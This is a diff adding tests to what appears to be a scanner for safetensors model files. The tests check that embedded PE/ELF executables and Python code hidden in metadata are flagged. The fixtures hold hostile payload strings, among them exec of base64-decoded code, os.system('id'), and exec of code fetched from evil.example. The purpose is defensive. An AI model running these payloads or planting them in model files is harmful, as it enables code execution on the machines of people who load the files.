@@ -61,3 +61,40 @@ describe("what is called safetensors", () => {
     expect(acts(Buffer.alloc(5_000, 0xa7), "model.bin")).toBe(0);
   });
 });
+
+describe("a tensor that is a program", () => {
+  const named = (data: Buffer): Buffer => file(`{"w":${tensor(0, data.length)}}`, data);
+  const pe = Buffer.alloc(256);
+  pe.write("MZ");
+  pe.writeUInt32LE(64, 60);
+  pe.write("PE\0\0", 64);
+  const elf = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(100)]);
+  test.each([pe, elf])("is told", (data) => {
+    expect(actsIn(named(data))).toEqual(["native"]);
+  });
+  test("numbers that begin alike are silent", () => {
+    const numbers = Buffer.alloc(256, 7);
+    numbers.write("MZ");
+    expect(actsIn(named(numbers))).toEqual([]);
+    const other = Buffer.alloc(256, 7);
+    other.write("\x7fELF", "latin1");
+    expect(actsIn(named(other))).toEqual([]);
+  });
+});
+
+describe("metadata that are a program", () => {
+  const metadata = (value: string): Buffer =>
+    file(`{"__metadata__":${JSON.stringify({ x: value })},${one.slice(1)}`, weights);
+  test.each([
+    "exec(__import__('base64').b64decode('aW1wb3J0'))",
+    "__import__('os').system('id')",
+    " eval(compile(bytes.fromhex('00'), '', 'exec'))",
+    "exec(urllib.request.urlopen('http://evil.example').read())",
+  ])("%s", (value) => {
+    expect(actsIn(metadata(value))).toEqual(["metadata-program"]);
+  });
+  test("words about code are not", () => {
+    expect(actsIn(metadata("Call eval(model) before exec(x)"))).toEqual(["metadata"]);
+    expect(actsIn(metadata("exec plan, evaluated on b64decode benchmarks"))).toEqual([]);
+  });
+});
